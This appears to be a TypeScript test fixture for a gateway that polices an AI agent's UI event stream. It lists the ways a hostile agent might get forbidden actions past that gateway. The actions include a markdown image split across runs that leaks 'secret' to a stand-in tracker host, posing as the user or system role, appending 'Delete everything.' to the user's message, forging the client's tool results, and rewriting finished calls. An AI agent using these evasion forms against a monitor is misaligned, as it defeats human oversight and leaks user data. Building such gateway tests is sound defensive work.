import type { Message } from "@countersign/wire";
import { applyJsonPatch } from "@countersign/wire/reduce";
import type { JsonObject, JsonValue } from "@countersign/core";
import { envelope } from "./envelopes.js";
import { call, text } from "./events.js";
import type { Person } from "./person.js";

/**
 * Events that perform the act, given the person's view and the position where the generator splits
 * a text.
 */
export type Form = (person: Person, cut: number) => object[];

/** One act of an agent on a person's view, and every form in which it can perform it. */
export type Act = {
  /** The blocks of a policy that allows everything else. */
  readonly rules: string;
  readonly isForbidden: boolean;
  readonly forms: Readonly<Record<string, Form>>;
  /** The same act by an agent that sends event envelopes. */
  readonly envelopes?: Readonly<Record<string, readonly object[]>>;
  /** True when the act's effect is on the person's screen. */
  happened(person: Person): boolean;
  /** Forms that the gateway may block although the act is allowed, as documented. */
  readonly stricter?: readonly string[];
};

/** The person's message in the first run. */
export const SAID: Message = { id: "u1", role: "user", content: "Please help me." };

/** The state that the client of the first run has. */
export const STATE: JsonObject = {
  account: { role: "user", plan: "basic" },
  items: [{ name: "one" }, { name: "two" }],
  theme: "light",
};

/** The tool of the client. */
export const ASK = { name: "ask", description: "asks the person", parameters: { type: "object" } };

/** A text that is harmless unless more text follows. */
const BEGUN = "See ![chart](";

/** The agent's events in the first run, before the act. */
export const BASE: readonly object[] = [
  ...text("a1", "Hello."),
  ...text("a2", BEGUN),
  ...call("c1", "ask", '{"q":1}'),
  ...call("c3", "lookup", '{"order":7}'),
  { type: "TOOL_CALL_RESULT", messageId: "t3", toolCallId: "c3", content: "found" },
  { type: "STATE_SNAPSHOT", snapshot: STATE },
];

/** Sends a text in every form in which an agent can show it. */
export function say(shown: string, isForbidden: boolean): Act {
  return {
    rules: `  ag_ui_content:
    read: [text, reasoning, tool_results, activities, state, questions, custom]
`,
    isForbidden,
    happened: (person) => person.reads(shown),
    // Unknown members of a payload count as the strictest class of its type. A client may join any
    // texts of envelopes, so none of them is read as code.
    stricter: [
      "text",
      "beside a text",
      "a notification",
      "two texts",
      ...Object.keys(joinedBy("")),
    ],
    forms: {
      "one delta": () => text("n1", shown),
      "two deltas": (_, cut) => inDeltas("TEXT_MESSAGE", "n1", shown, cut),
      chunks: (_, cut) => [
        { type: "TEXT_MESSAGE_CHUNK", messageId: "n1", role: "assistant", delta: head(shown, cut) },
        { type: "TEXT_MESSAGE_CHUNK", delta: tail(shown, cut) },
      ],
      reasoning: (_, cut) => [
        { type: "REASONING_START", messageId: "s1" },
        ...inDeltas("REASONING_MESSAGE", "n1", shown, cut),
        { type: "REASONING_END", messageId: "s1" },
      ],
      "in a message list": ({ view }) =>
        list([...view.messages, { id: "n1", role: "assistant", content: shown }]),
      "as reasoning in a message list": ({ view }) =>
        list([...view.messages, { id: "n1", role: "reasoning", content: shown }]),
      "half streamed, half in a list": ({ view }, cut) => [
        ...text("n1", head(shown, cut) || "x"),
        ...list([...view.messages, { id: "n1", role: "assistant", content: shown }]),
      ],
      "of a subagent": (_, cut) => [
        { type: "SUBAGENT_STARTED", subagentRunId: "s1", name: "helper" },
        ...inDeltas("TEXT_MESSAGE", "n1", shown, cut).map((event) => ({
          ...event,
          subagentRunId: "s1",
        })),
        { type: "SUBAGENT_FINISHED", subagentRunId: "s1" },
      ],
      "as the result of a tool": () => [
        ...call("n2", "lookup", "{}"),
        { type: "TOOL_CALL_RESULT", messageId: "n1", toolCallId: "n2", content: shown },
      ],
      "as an answer in a list": ({ view }) => [
        ...call("n2", "lookup", "{}"),
        ...list([
          ...view.messages,
          { id: "n2", role: "assistant", toolCalls: [called("n2", "lookup", "{}")] },
          { id: "n1", role: "tool", toolCallId: "n2", content: shown },
        ] as Message[]),
      ],
      "in an activity": () => [activity("n1", "card", { lines: [{ text: shown }] })],
      "by a patch of an activity": () => [
        activity("n1", "card", { lines: [] }),
        {
          type: "ACTIVITY_DELTA",
          messageId: "n1",
          activityType: "card",
          patch: [{ op: "add", path: "/lines/-", value: { text: shown } }],
        },
      ],
      "in an activity of a list": ({ view }) =>
        list([
          ...view.messages,
          { id: "n1", role: "activity", activityType: "card", content: { text: shown } },
        ]),
      "in the state": ({ view }) => [
        { type: "STATE_SNAPSHOT", snapshot: { ...(view.state as JsonObject), note: shown } },
      ],
      "by a patch of the state": () => [
        { type: "STATE_DELTA", delta: [{ op: "add", path: "/note", value: [shown] }] },
      ],
      "as a custom event": () => [{ type: "CUSTOM", name: "vendor.note", value: { shown } }],
    },
    envelopes: {
      text: [envelope("e1", { payload: { text: shown } })],
      "two texts": [
        envelope("e1", { payload: { text: shown.slice(0, 5) } }),
        envelope("e2", { payload: { text: shown.slice(5) } }),
      ],
      ...joinedBy(shown),
      "beside a text": [
        envelope("e1", { payload: { text: "Look:", caption: { lines: [shown] } } }),
      ],
      "an error": [envelope("e1", { event_type: "error", payload: { message: shown } })],
      "a notification": [
        envelope("e1", {
          event_type: "notification",
          classification: "alert",
          payload: { body: [{ shown }] },
        }),
      ],
      "a state": [
        envelope("e1", {
          event_type: "state_update",
          classification: "mutate",
          payload: { shown },
        }),
      ],
      "a component": [
        envelope("e1", {
          event_type: "lifecycle",
          classification: "create",
          payload: { action: "create", title: shown },
        }),
      ],
      "a custom event": [
        envelope("e1", {
          event_type: { custom: "note" },
          classification: "mutate",
          payload: { shown },
        }),
      ],
    },
  };
}

/** A text in two halves with another text between them; clients differ in which texts they join. */
function joinedBy(shown: string): Record<string, readonly object[]> {
  const halves = [shown.slice(0, 5), "x) ok\n\n", shown.slice(5)] as const;
  const chat = { component_type: "chat-window", component_id: "main" };
  const ways: Record<string, (isOther: boolean, text: string) => object> = {
    "joined by member": (isOther, text) => ({ payload: { [isOther ? "text" : "delta"]: text } }),
    "joined by message": (isOther, text) => ({
      payload: { message_id: isOther ? "m2" : "m1", delta: text },
    }),
    "joined by component": (isOther, text) => ({
      target: { ...chat, component_id: isOther ? "side" : "main" },
      payload: { delta: text },
    }),
    "joined by agent": (isOther, text) => ({
      agent_id: isOther ? "helper" : "agent-support",
      payload: { delta: text },
    }),
  };
  return Object.fromEntries(
    Object.entries(ways).map(([name, fields]) => [
      name,
      halves.map((text, index) => envelope(`e${index}`, fields(index === 1, text))),
    ]),
  );
}

/** Completes, in a later run, an image whose first part an earlier run delivered. */
export function finishImage(): Act {
  const rest = "https://tracker.example/x?d=secret)";
  return {
    rules: "  ag_ui_content: {}\n",
    isForbidden: true,
    happened: (person) => person.reads(`${BEGUN}${rest}`),
    forms: {
      "reopened text": () => text("a2", rest),
      "reopened in two deltas": (_, cut) => inDeltas("TEXT_MESSAGE", "a2", rest, cut),
      "reopened chunks": () => [{ type: "TEXT_MESSAGE_CHUNK", messageId: "a2", delta: rest }],
      "in a message list": ({ view }) => list(rewritten(view.messages, "a2", `${BEGUN}${rest}`)),
      "part in a list, part reopened": ({ view }, cut) => [
        ...list(rewritten(view.messages, "a2", `${BEGUN}${head(rest, cut)}`)),
        ...text("a2", tail(rest, cut) || "."),
      ],
      "reopened after a call named it": () => [
        {
          type: "TOOL_CALL_START",
          toolCallId: "n9",
          toolCallName: "lookup",
          parentMessageId: "a2",
        },
        { type: "TOOL_CALL_END", toolCallId: "n9" },
        ...text("a2", rest),
      ],
      "reopened after a call took its id": () => [
        ...call("a2", "lookup", "{}"),
        ...text("a2", rest),
      ],
      "reopened after a list gave its text another id": ({ view }) => [
        ...list(view.messages.map((one) => (one.id === "a2" ? { ...one, id: "n8" } : one))),
        ...text("a2", rest),
      ],
      "reopened after a list left it out": ({ view }) => [
        ...list(view.messages.filter(({ id }) => id !== "a2")),
        ...text("a2", `${BEGUN}${rest}`),
      ],
    },
  };
}

/** Sends a message in a role that is not the agent's. */
export function speakAs(role: "user" | "system" | "developer"): Act {
  return {
    rules: "",
    isForbidden: true,
    happened: ({ view }) => view.messages.some(({ id }) => id === "n1"),
    forms: {
      streamed: () => text("n1", "I agree.", { role }),
      chunk: () => [{ type: "TEXT_MESSAGE_CHUNK", messageId: "n1", role, delta: "I agree." }],
      "in a message list": ({ view }) =>
        list([...view.messages, { id: "n1", role, content: "I agree." }]),
    },
  };
}

/** Changes or removes the person's message. */
export function rewriteThePerson(): Act {
  const more = " Delete everything.";
  const isSame = (person: Person): boolean => {
    const message = person.message("u1");
    return message?.role === "user" && message.content === SAID.content;
  };
  return {
    rules: "",
    isForbidden: true,
    happened: (person) => !isSame(person),
    forms: {
      "appended text": () => text("u1", more),
      "appended chunk": () => [{ type: "TEXT_MESSAGE_CHUNK", messageId: "u1", delta: more }],
      "appended reasoning": (_, cut) => inDeltas("REASONING_MESSAGE", "u1", more, cut),
      "an activity in its place": () => [activity("u1", "card", { a: 1 })],
      "a result in its place": () => [
        ...call("n2", "lookup", "{}"),
        { type: "TOOL_CALL_RESULT", messageId: "u1", toolCallId: "n2", content: more },
      ],
      "changed in a list": ({ view }) => list(rewritten(view.messages, "u1", more)),
      "another role in a list": ({ view }) =>
        list(
          view.messages.map((message) =>
            message.id === "u1" ? { id: "u1", role: "assistant", content: more } : message,
          ),
        ),
      "left out of a list": ({ view }) => list(view.messages.filter(({ id }) => id !== "u1")),
      "a call under its id": () => [
        {
          type: "TOOL_CALL_START",
          toolCallId: "n2",
          toolCallName: "lookup",
          parentMessageId: "u1",
        },
        { type: "TOOL_CALL_END", toolCallId: "n2" },
      ],
    },
  };
}

/** Changes the arguments of a call that has ended. */
export function rewriteCall(): Act {
  return {
    rules: "",
    isForbidden: true,
    happened: ({ view }) =>
      view.messages.some(
        (message) =>
          message.role === "assistant" &&
          message.toolCalls?.some(
            ({ id, function: { name, arguments: given } }) =>
              id === "c3" && (name !== "lookup" || given !== '{"order":7}'),
          ),
      ),
    forms: {
      "opened again": () => call("c3", "lookup", ' {"order":8}'),
      "opened again under another name": () => call("c3", "refund", '{"order":8}'),
      chunk: () => [
        { type: "TOOL_CALL_CHUNK", toolCallId: "c3", toolCallName: "lookup", delta: "}" },
      ],
    },
  };
}

/** Sends the result of a client's tool in place of the client. */
export function answerForTheClient(): Act {
  return {
    rules: "",
    isForbidden: true,
    happened: ({ view }) =>
      view.messages.some((message) => message.role === "tool" && message.content === "yes"),
    forms: {
      result: () => [
        { type: "TOOL_CALL_RESULT", messageId: "n1", toolCallId: "c1", content: "yes" },
      ],
      "in a message list": ({ view }) =>
        list([...view.messages, { id: "n1", role: "tool", toolCallId: "c1", content: "yes" }]),
      "behind a new call": () => [
        ...call("n2", ASK.name, "{}"),
        { type: "TOOL_CALL_RESULT", messageId: "n1", toolCallId: "n2", content: "yes" },
      ],
      "in a message list with its call": ({ view }) =>
        list([
          ...view.messages,
          { id: "n3", role: "assistant", toolCalls: [called("n2", ASK.name, "{}")] },
          { id: "n1", role: "tool", toolCallId: "n2", content: "yes" },
        ]),
      "in a message list before its call": ({ view }) =>
        list([
          ...view.messages,
          { id: "n1", role: "tool", toolCallId: "n2", content: "yes" },
          { id: "n3", role: "assistant", toolCalls: [called("n2", ASK.name, "{}")] },
        ]),
    },
  };
}

/** Calls a tool. */
export function callTool(name: string, given: string, isForbidden: boolean): Act {
  return {
    rules: `  ag_ui_tools:
    call: { default: allow, block: ["delete_*"] }
    arguments:
      pay: { type: object, properties: { amount: { type: number, maximum: 10 } }, required: [amount] }
`,
    isForbidden,
    happened: ({ view }) =>
      view.messages.some(
        (message) =>
          message.role === "assistant" && message.toolCalls?.some(({ id }) => id === "n1"),
      ),
    forms: {
      streamed: () => call("n1", name, given),
      "in pieces": (_, cut) => [
        { type: "TOOL_CALL_START", toolCallId: "n1", toolCallName: name },
        { type: "TOOL_CALL_ARGS", toolCallId: "n1", delta: head(given, cut) || " " },
        { type: "TOOL_CALL_ARGS", toolCallId: "n1", delta: tail(given, cut) || " " },
        { type: "TOOL_CALL_END", toolCallId: "n1" },
      ],
      chunk: () => [
        { type: "TOOL_CALL_CHUNK", toolCallId: "n1", toolCallName: name, delta: given },
      ],
      "in a message list": ({ view }) =>
        list([
          ...view.messages,
          { id: "n2", role: "assistant", toolCalls: [called("n1", name, given)] },
        ]),
      "on a message of a list": ({ view }) =>
        list([
          ...view.messages,
          {
            id: "n2",
            role: "assistant",
            content: "One moment.",
            toolCalls: [called("n4", "lookup", "{}"), called("n1", name, given)],
          },
        ]),
      "below a message": () => [
        ...text("n2", "One moment."),
        ...call("n1", name, given).map((event) =>
          event.type === "TOOL_CALL_START" ? { ...event, parentMessageId: "n2" } : event,
        ),
      ],
    },
  };
}

/** Shows a component. */
export function showComponent(type: string, isForbidden: boolean): Act {
  const needle = `marker-of-${type}`;
  return {
    rules: `  ag_ui_components:
    default: block
    allow_components: [chat-window, interrupt, card, "card-*"]
`,
    isForbidden,
    happened: (person) => person.reads(needle),
    // An unknown verb counts as the strictest.
    stricter: ['{"step":"started"}'],
    forms: {
      activity: () => [activity("n1", type, { title: needle })],
      "in a message list": ({ view }) =>
        list([
          ...view.messages,
          { id: "n1", role: "activity", activityType: type, content: { title: needle } },
        ]),
      "over another activity": () => [
        activity("n1", "card", { title: "card" }),
        activity("n1", type, { title: needle }),
      ],
      "a render hint": () => [
        {
          type: "CUSTOM",
          name: "countersign.ui_render_hint",
          value: { component: type, props: { title: needle } },
        },
      ],
    },
    envelopes: Object.fromEntries(
      [
        { action: "create" },
        { action: ["mount"] },
        { lifecycle: { event: "OPENED" } },
        { step: "started" },
        {},
      ].map((verb) => [
        JSON.stringify(verb),
        [
          envelope("e1", {
            event_type: "lifecycle",
            target: { component_type: type, component_id: "x" },
            classification: "create",
            payload: { ...verb, title: needle },
          }),
        ],
      ]),
    ),
  };
}

/** Changes the state by a patch. */
export function changeState(patch: readonly JsonObject[], isForbidden: boolean): Act {
  const after = (state: JsonValue): JsonValue => {
    const result = applyJsonPatch(state, patch as never);
    if (!result.applied) throw new TypeError("the patch of a test must apply");
    return result.document;
  };
  const wanted = JSON.stringify(after(STATE));
  return {
    rules: `  ag_ui_classify:
    state:
      - { match: "/account/role", classification: submit }
      - { match: "/items/0/**", classification: submit }
`,
    isForbidden,
    happened: ({ view }) => JSON.stringify(view.state) === wanted,
    // A patch is judged by its paths, and the root contains all of them. When a client sends no
    // state, the gateway cannot tell what a snapshot changes.
    stricter: ["a patch of the root", "snapshot over GET"],
    forms: {
      patch: () => [{ type: "STATE_DELTA", delta: patch }],
      snapshot: ({ view }) => [{ type: "STATE_SNAPSHOT", snapshot: after(view.state) }],
      "a patch of the root": ({ view }) => [
        { type: "STATE_DELTA", delta: [{ op: "replace", path: "", value: after(view.state) }] },
      ],
      "one operation at a time": () =>
        patch.map((operation) => ({ type: "STATE_DELTA", delta: [operation] })),
    },
  };
}

function list(messages: readonly Message[]): object[] {
  return [{ type: "MESSAGES_SNAPSHOT", messages }];
}

function rewritten(messages: readonly Message[], id: string, content: string): Message[] {
  return messages.map((message) =>
    message.id === id ? ({ ...message, content } as Message) : message,
  );
}

function called(id: string, name: string, given: string): Called {
  return { id, type: "function", function: { name, arguments: given } };
}

type Called = {
  id: string;
  type: "function";
  function: { name: string; arguments: string };
};

function activity(messageId: string, activityType: string, content: JsonObject): object {
  return { type: "ACTIVITY_SNAPSHOT", messageId, activityType, content };
}

function inDeltas(
  kind: "TEXT_MESSAGE" | "REASONING_MESSAGE",
  messageId: string,
  shown: string,
  cut: number,
): { type: string }[] {
  const role = kind === "TEXT_MESSAGE" ? "assistant" : "reasoning";
  const deltas = [head(shown, cut), tail(shown, cut)].filter((delta) => delta !== "");
  return [
    { type: `${kind}_START`, messageId, role } as { type: string },
    ...deltas.map((delta) => ({ type: `${kind}_CONTENT`, messageId, delta })),
    { type: `${kind}_END`, messageId } as { type: string },
  ];
}

/** The text up to a position between two characters. */
function head(shown: string, cut: number): string {
  const characters = [...shown];
  return characters.slice(0, cut % (characters.length + 1)).join("");
}

function tail(shown: string, cut: number): string {
  return shown.slice(head(shown, cut).length);
}
